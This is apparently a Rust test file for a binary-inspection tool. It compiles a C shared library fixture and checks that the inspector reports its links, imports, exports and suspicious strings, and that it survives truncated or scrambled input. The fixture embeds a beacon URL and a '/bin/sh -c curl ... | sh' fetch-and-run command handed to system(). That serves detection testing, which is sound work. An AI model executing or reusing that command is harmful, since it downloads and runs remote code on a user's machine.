//! The native-binary description on real binaries: a small C shared
//! library compiled here with the system's C compiler (or, without one, a
//! shared library of the system read as it is), then the same bytes cut
//! short and scrambled, which must describe without a panic.

use std::path::PathBuf;
use std::process::Command;

use airlock_inspect::native;

const SOURCE: &str = r#"
#include <stdio.h>
#include <stdlib.h>
#include <math.h>
const char *airlock_beacon = "https://collector.example.net/upload";
const char *airlock_shell = "/bin/sh -c 'curl -s http://198.51.100.7/x | sh'";
int airlock_exported_one(double x) { return (int) cos(x); }
int airlock_exported_two(void) { puts(airlock_beacon); return system(airlock_shell); }
"#;

/// A shared library built from [`SOURCE`], or None without a C compiler.
fn built_library() -> Option<Vec<u8>> {
    let dir = tempfile::tempdir().ok()?;
    let src = dir.path().join("beacon.c");
    std::fs::write(&src, SOURCE).ok()?;
    let out = dir.path().join("libbeacon.so");
    let status = Command::new("cc").args(["-shared", "-fPIC", "-O0", "-o"]).arg(&out).arg(&src).arg("-lm").status().ok()?;
    status.success().then(|| std::fs::read(&out).ok()).flatten()
}

fn system_library() -> Vec<u8> {
    let candidates = ["/lib/x86_64-linux-gnu/libm.so.6", "/usr/lib/x86_64-linux-gnu/libm.so.6", "/lib/aarch64-linux-gnu/libm.so.6", "/lib64/libm.so.6"];
    let path = candidates.iter().map(PathBuf::from).find(|p| p.is_file()).expect("a C compiler or a system libm to read");
    std::fs::read(path).unwrap()
}

#[test]
fn a_compiled_shared_library_shows_its_links_imports_exports_and_strings() {
    let Some(bytes) = built_library() else {
        // No compiler: a system library still has a format, links and exports.
        let info = native::describe(&system_library()).expect("libm is native");
        assert!(info.format.starts_with("ELF"), "{info:?}");
        assert!(info.exports_total > 10, "{info:?}");
        return;
    };
    let info = native::describe(&bytes).expect("an ELF shared library");
    assert!(info.format.starts_with("ELF"), "{info:?}");
    assert_eq!(info.kind, "shared library");
    assert!(!info.architecture.is_empty() && info.architecture != "unknown", "{info:?}");
    assert!(info.libraries.iter().any(|l| l.starts_with("libc.so")), "links libc: {:?}", info.libraries);
    assert!(info.libraries.iter().any(|l| l.starts_with("libm.so")), "links libm: {:?}", info.libraries);
    for symbol in ["system", "puts", "cos"] {
        assert!(info.imports.iter().any(|i| i == symbol || i.ends_with(&format!(": {symbol}"))), "imports {symbol}: {:?}", info.imports);
    }
    assert_eq!(info.imports_total, info.imports.len());
    assert!(info.exports_total >= 2, "exports the two functions: {info:?}");
    let strings: Vec<(&str, &str)> = info.strings.iter().map(|s| (s.kind, s.text.as_str())).collect();
    assert!(strings.contains(&("url", "https://collector.example.net/upload")), "{strings:?}");
    assert!(strings.iter().any(|(k, t)| *k == "url" && t.contains("198.51.100.7")), "{strings:?}");
}

#[test]
fn a_cut_or_scrambled_binary_is_described_without_panicking() {
    let bytes = built_library().unwrap_or_else(system_library);
    for cut in [16, 64, 200, 1000, bytes.len() / 2, bytes.len() - 1] {
        let info = native::describe(&bytes[..cut]).expect("still starts like ELF");
        assert!(info.format.starts_with("ELF") || !info.notes.is_empty(), "cut at {cut}: {info:?}");
    }
    // Flip bytes through the headers and tables; nothing may panic.
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..200 {
        let mut scrambled = bytes.clone();
        for _ in 0..16 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let at = 4 + (seed as usize) % (scrambled.len() - 4);
            scrambled[at] = (seed >> 32) as u8;
        }
        let _ = native::describe(&scrambled);
    }
}
